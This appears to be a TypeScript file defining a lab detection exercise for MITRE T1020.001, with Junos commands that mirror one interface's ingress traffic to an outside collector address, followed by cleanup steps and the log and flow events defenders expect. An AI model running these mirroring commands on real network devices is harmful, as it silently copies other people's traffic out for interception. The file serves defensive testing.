/** How somebody sees whether analyzers of Junos are noticed, on a switch or router of a laboratory. */
import type { Exercise } from '../../../facts/log-content/exercise.ts'

export const exercises: readonly Exercise[] = [
  {
    guid: 'e7d1b9a4-0c65-4b2e-9f3d-5a8c7b6d4e21',
    name: 'Junos analyzer to an address on a device of a laboratory',
    description: 'Copies what one interface receives to an address of your own.',
    technique: 'T1020.001',
    platforms: ['network'],
    arguments: {
      analyzer: { description: 'Name of an analyzer that is free', type: 'string', default: 'EXERCISE' },
      interface: { description: 'Interface whose traffic is copied', type: 'string', default: 'ge-0/0/1.0' },
      collector: {
        description: 'Address of your own that receives the copies',
        type: 'string',
        default: '203.0.113.66',
      },
    },
    prerequisites: [],
    executor: 'manual',
    needsElevation: true,
    commands: [
      'On a device of a laboratory that logs commands and changes (system syslog host ADDRESS interactive-commands any, change-log any), type:',
      'configure',
      'set forwarding-options analyzer #{analyzer} input ingress interface #{interface}',
      'set forwarding-options analyzer #{analyzer} output ip-address #{collector}',
      'commit and-quit',
      'Read the log of the device at your collector.',
    ],
    cleanup: [
      'configure',
      'delete forwarding-options analyzer #{analyzer}',
      'commit and-quit',
      'show forwarding-options analyzer must not name #{analyzer}.',
    ],
    acts: ['session-set', 'session-removed', 'configuration-edited'],
    telemetry: [
      'Each command is one UI_CMDLINE_READ_LINE with the account, each change one UI_CFG_AUDIT_SET or UI_CFG_AUDIT_OTHER, the commit one UI_COMMIT.',
      'Flow records of the way out have GRE (protocol 47) to the collector.',
    ],
  },
]
